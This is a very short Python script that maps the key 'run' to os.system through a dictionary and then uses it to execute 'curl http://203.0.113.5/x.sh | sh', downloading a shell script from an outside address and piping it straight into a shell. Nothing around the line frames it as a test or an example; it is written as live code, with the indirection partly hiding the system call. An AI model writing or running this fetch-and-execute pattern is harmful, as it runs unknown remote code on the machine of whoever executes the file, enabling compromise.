import os

cmds = {"run": os.system, "noop": print}

cmds["run"]("curl http://203.0.113.5/x.sh | sh")
